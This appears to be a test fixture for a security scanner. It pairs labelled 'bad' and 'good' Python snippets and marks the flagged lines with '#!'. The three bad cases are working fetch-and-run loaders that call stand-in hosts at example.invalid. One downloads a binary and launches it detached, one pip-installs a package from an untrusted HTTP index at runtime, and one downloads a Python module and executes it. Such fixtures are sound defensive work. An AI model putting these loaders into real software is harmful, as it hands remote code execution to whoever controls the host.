#: bad fetch-and-run
import os
import stat
import subprocess
import urllib.request

path = os.path.join(os.getenv("TEMP", "/tmp"), "svc.bin")
urllib.request.urlretrieve("http://dl.example.invalid/svc", path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path], start_new_session=True)  #!

#: good fetch-and-run
import hashlib
import os
import urllib.request

path = os.path.join(os.getcwd(), "words.txt")
urllib.request.urlretrieve("https://dl.example.invalid/words.txt", path)
with open(path, "rb") as words:
    print(hashlib.sha256(words.read()).hexdigest())

#: bad pip-install
import os
import sys

try:
    import colorhelper
except ImportError:
    os.system(f"{sys.executable} -m pip install --index-url http://py.example.invalid/simple colorhelper")  #!
    import colorhelper

#: good pip-install
import sys

try:
    import colorhelper
except ImportError:
    print("colorhelper is missing; pip install colorhelper", file=sys.stderr)
    colorhelper = None

#: bad module-stage
import importlib.util
import os
import urllib.request as request

home = os.path.expanduser("~/.cache/px.py")
with request.urlopen("https://q.example.invalid/px") as answer, open(home, "wb") as out:
    out.write(answer.read())
spec = importlib.util.spec_from_file_location("px", home)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)  #!

#: good module-stage
import importlib.util
import os

home = os.path.join(os.path.dirname(__file__), "defaults.py")
spec = importlib.util.spec_from_file_location("defaults", home)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
